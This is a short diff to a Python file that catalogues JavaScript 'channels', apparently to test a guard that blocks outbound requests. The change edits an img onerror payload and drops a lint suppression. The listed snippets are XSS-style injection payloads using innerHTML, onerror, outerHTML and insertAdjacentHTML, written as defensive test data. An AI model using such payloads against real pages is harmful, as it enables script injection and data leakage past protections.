@@ -7,7 +7,6 @@ Add a line before you add a branch to the guard.
 """
 
 # One way out is one line, however long: cut up, the JavaScript could not be read or tried in a console.
-# ruff: noqa: E501
 
 from dataclasses import dataclass
 
@@ -295,7 +294,7 @@ CHANNELS: tuple[Channel, ...] = (
         ("innerHTML, iframe", "put(make('div')).innerHTML = '<iframe src=' + u('html') + '></iframe>'"),
         (
             "innerHTML, event handler",
-            "put(make('div')).innerHTML = '<img src=/none onerror=\"this.src=' + quoted(u('gif')).replace(/\"/g, '&quot;') + '\">'",
+            "put(make('div')).innerHTML = '<img src=/none onerror=\"this.onerror=null;this.src=' + quoted(u('gif')).replace(/\"/g, '&quot;') + '\">'",
         ),
         ("outerHTML", "var p = put(make('p')); p.outerHTML = '<img src=' + u('gif') + '>'"),
         ("insertAdjacentHTML", "b.insertAdjacentHTML('beforeend', '<img src=' + u('gif') + '>')"),
